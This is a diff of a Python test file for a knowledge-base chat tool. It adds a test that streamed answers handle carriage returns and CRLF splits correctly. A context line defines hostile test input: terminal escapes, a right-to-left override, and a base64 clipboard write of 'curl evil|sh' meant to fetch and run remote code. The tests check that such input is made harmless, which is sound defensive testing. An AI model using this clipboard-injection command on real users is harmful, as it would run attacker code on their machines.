@@ -17,7 +17,7 @@ from kbmem.agent.offline import markdown_literal
 from kbmem.cli import main
 from kbmem.store import KnowledgeBase
 from kbmem.template import init_kb
-from kbmem.textutil import json_text, printable
+from kbmem.textutil import PrintableStream, json_text, printable
 
 # Red text, a clipboard write of "curl evil|sh" ended by BEL, and a right-to-left override.
 EVIL = "\x1b[31mred\x1b[0m \x1b]52;c;Y3VybCBldmlsfHNo\x07 \u202eevil\u202c"
@@ -161,6 +161,24 @@ def test_a_chat_streams_its_answer_made_printable(
     # The answer quotes the page as Markdown (its brackets escaped), made printable.
     assert printable(markdown_literal(f"euros {EVIL}.")) in out
     assert_printable(out + err)
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["one\r\ntwo\r\n", "lone\rcr at the end\r", "\r\r\n\r\n\r"],
+    ids=["crlf", "lone-cr", "cr-runs"],
+)
+def test_a_streamed_answer_is_shown_as_the_whole_answer_would_be(text: str) -> None:
+    """The chat's answer reaches stdout in pieces (``kbmem chat --no-tui``): wherever the
+    pieces are cut, a CRLF split between two of them is still a line end, not a lone CR."""
+    cuts = [[text[:n], text[n:]] for n in range(len(text) + 1)] + [list(text)]
+    for pieces in cuts:
+        out = io.StringIO()
+        stream = PrintableStream(out)
+        for piece in pieces:
+            stream.write(piece)
+        stream.end()
+        assert out.getvalue() == printable(text), pieces
 
 
 # -- errors and warnings ---------------------------------------------------------------------
